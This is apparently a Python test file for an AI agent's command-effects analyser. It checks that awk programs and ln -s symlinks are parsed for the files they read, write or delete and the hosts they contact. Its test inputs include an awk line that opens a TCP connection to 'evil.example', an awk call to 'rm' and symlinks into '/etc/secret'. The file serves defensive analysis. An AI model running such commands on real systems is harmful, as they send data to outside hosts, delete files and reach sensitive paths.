"""Files, commands and hosts that are named inside the arguments of a command."""

from tests.rows import rows
from wave_agent.effects.calls import effects_of
from wave_agent.effects.surroundings import Surroundings
from wave_agent.effects.values import Effects

HERE = Surroundings(directory="/p", project="/p")


def effects(line: str) -> Effects:
    return effects_of("Bash", {"command": line}, HERE)


@rows(
    ("program", "kind", "expected"),
    [
        ('{print > "out/x"}', "writes", "/p/out/x"),
        ('{print >> "out/x"}', "writes", "/p/out/x"),
        ('BEGIN{while((getline l < "a") > 0) print l}', "reads", "/p/a"),
        ('{print | "cat > b"}', "writes", "/p/b"),
        ('BEGIN{"cat c" | getline x}', "reads", "/p/c"),
        ('BEGIN{system("rm d")}', "deletes", "/p/d"),
        ('BEGIN{print 1 |& "/inet/tcp/0/evil.example/80"}', "hosts", "evil.example"),
    ],
)
def test_awk_names_what_it_uses(program: str, kind: str, expected: str) -> None:
    found = effects(f"awk '{program}' data")
    assert expected in getattr(found, kind)
    assert "/p/data" in found.reads
    assert not found.complete


@rows(
    ("line", "expected"),
    [
        ("ln -s ../secret sub/way", "/p/secret"),
        ("ln -s secret sub", "/p/sub/secret"),
        ("ln -st sub ../secret", "/p/secret"),
        ("ln -s secret way", "/p/secret"),
        ("ln -s /etc/secret sub/way", "/etc/secret"),
        ("ln -s /etc/secret", "/etc/secret"),
    ],
)
def test_the_path_in_a_link_starts_from_where_the_link_is(line: str, expected: str) -> None:
    assert {expected, f"{expected}/**"} <= {*effects(line).reads}


def test_a_link_with_an_unknown_name_is_not_followed_further() -> None:
    assert "/p/a" in effects("ln -s a $X").reads
